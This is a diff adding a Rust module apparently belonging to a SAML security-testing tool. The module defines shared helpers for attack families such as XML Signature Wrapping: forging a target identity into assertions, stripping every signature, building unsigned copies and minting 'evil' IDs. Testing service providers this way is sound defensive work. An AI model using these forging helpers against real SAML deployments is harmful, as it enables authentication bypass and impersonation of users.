@@ -1,0 +1,148 @@
+//! The catalogue's families, one file each, and the helpers their edits share.
+
+pub mod canon;
+pub mod dsig;
+pub mod parse;
+pub mod sig;
+pub mod token;
+pub mod xsw;
+
+use crate::bytes::{self, signature_of, Doc, Node, ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
+use crate::forge::{Forged, Skip};
+use crate::identity::{self, Swap};
+
+/// Spec references used by several families.
+pub const CORE_SIG: &str = "SAML Core §5.4.2 (saml-core-2.0-os)";
+/// Web SSO profile processing rules.
+pub const PROFILES: &str = "SAML Profiles §4.1.4.3 (saml-profiles-2.0-os)";
+/// The XSW paper.
+pub const USENIX12: &str =
+    "Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012)";
+
+/// The pieces of a seed most edits need.
+pub struct Parts<'d, 'a> {
+    /// The parsed seed.
+    pub doc: &'d Doc<'a>,
+    /// The root (samlp:Response).
+    pub root: Node<'d, 'a>,
+    /// The first Assertion.
+    pub assertion: Node<'d, 'a>,
+    /// The Assertion's enveloped Signature.
+    pub assertion_sig: Option<Node<'d, 'a>>,
+    /// The Response's enveloped Signature.
+    pub response_sig: Option<Node<'d, 'a>>,
+}
+
+impl<'d, 'a> Parts<'d, 'a> {
+    /// Finds the parts of `doc`.
+    pub fn of(doc: &'d Doc<'a>) -> Result<Parts<'d, 'a>, Skip> {
+        let root = doc.root();
+        if !root.has_tag_name((PROTOCOL_NS, "Response")) {
+            return Err(Skip("the seed is not a samlp:Response".into()));
+        }
+        let assertion = doc.assertion()?;
+        Ok(Parts {
+            doc,
+            root,
+            assertion,
+            assertion_sig: signature_of(assertion),
+            response_sig: signature_of(root),
+        })
+    }
+
+    /// The Assertion's signature, or not-applicable.
+    pub fn need_assertion_sig(&self) -> Result<Node<'d, 'a>, Skip> {
+        self.assertion_sig.ok_or_else(|| {
+            Skip("needs a signed Assertion; this IdP signs only the Response".into())
+        })
+    }
+
+    /// The Response's signature, or not-applicable.
+    pub fn need_response_sig(&self) -> Result<Node<'d, 'a>, Skip> {
+        self.response_sig.ok_or_else(|| {
+            Skip(
+                "needs a signed Response; this IdP signs only the Assertion (Entra's default)"
+                    .into(),
+            )
+        })
+    }
+
+    /// The Assertion's ID.
+    pub fn assertion_id(&self) -> &'d str {
+        self.assertion.attribute("ID").unwrap_or_default()
+    }
+
+    /// The original Assertion without its signature.
+    pub fn assertion_unsigned(&self) -> String {
+        self.doc.outer_without(self.assertion, self.assertion_sig)
+    }
+
+    /// The original Response without its own signature.
+    pub fn response_unsigned(&self) -> String {
+        self.doc.outer_without(self.root, self.response_sig)
+    }
+
+    /// A forged copy of the Assertion (target identity), its signature removed, with `id`.
+    pub fn forged_assertion(&self, id: Option<&str>) -> (String, Swap) {
+        let (xml, swap) = forge_fragment(&self.assertion_unsigned());
+        (id.map_or(xml.clone(), |id| bytes::with_id(&xml, id)), swap)
+    }
+
+    /// Where a child goes right after the Response's Issuer (and its Signature, if any).
+    pub fn after_response_header(&self) -> usize {
+        self.response_sig
+            .or_else(|| bytes::child(self.root, ASSERTION_NS, "Issuer"))
+            .map_or_else(
+                || bytes::after_start_tag(self.doc.src, self.root),
+                |n| n.range().end,
+            )
+    }
+}
+
+/// A new ID derived from `id`, so it is unique in the document.
+pub fn evil_id(id: &str) -> String {
+    format!("{id}-evil")
+}
+
+/// Forges the target identity into an element's bytes (parsed with the usual prefixes bound).
+pub fn forge_fragment(fragment: &str) -> (String, Swap) {
+    let wrapped = bytes::wrap_namespaces(fragment);
+    let Ok(doc) = Doc::parse(&wrapped) else {
+        return (fragment.to_owned(), Swap::default());
+    };
+    let inner = doc
+        .root()
+        .first_element_child()
+        .map_or(0..wrapped.len(), |n| n.range());
+    let (out, swap) = identity::forge(&doc, inner.clone());
+    let end = out.len() - "</w>".len();
+    let start = inner.start;
+    (out[start..end].to_owned(), swap)
+}
+
+/// Forges the target identity into the whole document.
+pub fn forge_document(doc: &Doc) -> (String, Swap) {
+    identity::forge(doc, 0..doc.src.len())
+}
+
+/// Removes every `ds:Signature` from a document.
+pub fn strip_signatures(xml: &str) -> Result<String, Skip> {
+    let doc = Doc::parse(xml)?;
+    let cuts = doc
+        .tree
+        .descendants()
+        .filter(|n| n.has_tag_name((DSIG_NS, "Signature")))
+        .filter(|n| {
+            !n.ancestors()
+                .skip(1)
+                .any(|a| a.has_tag_name((DSIG_NS, "Signature")))
+        })
+        .map(|n| (n.range(), String::new()))
+        .collect();
+    Ok(bytes::splice(xml, cuts))
+}
+
+/// Result helper: a forged document.
+pub fn forged(xml: String, swap: Swap) -> Result<Forged, Skip> {
+    Ok(Forged { xml, swap })
+}
